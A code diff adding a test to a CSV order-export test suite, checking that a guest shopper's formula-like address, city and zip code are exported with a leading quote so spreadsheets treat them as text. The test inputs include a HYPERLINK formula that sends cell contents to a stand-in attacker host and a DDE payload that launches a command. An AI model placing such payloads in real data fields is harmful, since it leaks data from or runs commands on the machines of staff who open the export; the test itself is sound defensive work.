@@ -1,5 +1,6 @@
 // GET /api/Orders/export.csv through the real app on a real SQLite file: BOM, header, one row per order line,
-// plain decimals, shop-day range and state filters, batches past the keyset boundary, roles and bad input.
+// plain decimals, shop-day range and state filters, batches past the keyset boundary, roles and bad input, and a
+// shopper's formula-like address written as text (decision 200).
 import { beforeAll, describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
 import { createCustomer, createStaff } from '../../testing/auth';
@@ -138,5 +139,26 @@ describe('GET /api/Orders/export.csv', () => {
     const text = await empty.text();
     expect(rowsOf(text)).toEqual([]);
     expect(text.replace(/^\uFEFF/, '').trim().split('\r\n')).toHaveLength(1);
+  });
+
+  it("an anonymous shopper's formula-like address and city reach the spreadsheet as text: one quote in front", async () => {
+    const address = '=HYPERLINK("http://evil.example/?x="&A2,"Kliko")';
+    const city = '-2+3+cmd|\' /C calc\'!A0';
+    const placed = await t.request('/api/orders/checkout', {
+      method: 'POST',
+      json: {
+        customerDetails: { email: 'anon@example.com', firstName: 'Arta', lastName: 'Hoxha', phoneNumber: '+38344111222', countryID: countryId, city, address, zipCode: '@10000', guestId: 'guest_csvformula1' },
+        cartItems: [{ productVariantId: variantId, quantity: 1 }],
+        promoCode: null,
+      },
+    });
+    expect(placed.status).toBe(201);
+    const { orderId } = (await placed.json()) as { orderId: number };
+    const { text } = await exportCsv();
+    const row = rowsOf(text).find((r) => Number(r.orderId) === orderId)!;
+    expect(row).toMatchObject({ address: `'${address}`, city: `'${city}`, zipCode: "'@10000", firstName: 'Arta', email: 'anon@example.com' });
+    // In the raw bytes no cell starts with the formula: the quoted cell begins with the quote mark.
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""Kliko"")"`);
+    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
   });
 });
